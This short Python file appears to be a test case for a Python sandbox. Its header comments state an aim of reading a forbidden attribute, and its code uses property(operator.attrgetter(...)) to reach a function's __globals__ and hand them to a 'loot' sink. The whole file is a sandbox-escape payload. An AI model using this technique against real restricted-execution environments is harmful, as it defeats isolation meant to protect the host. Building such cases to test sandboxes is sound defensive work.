# aim: let a property read the forbidden attribute
# mechanism: property(attrgetter) on a class of the program's
# language: builtins
# reason: computed names obey the same tables as spelled ones
# jail: process
# plain: loot

import json
import operator


class Holder:
    function = json.dumps
    found = property(operator.attrgetter("function.__func__.__globals__"))


loot(Holder().found)
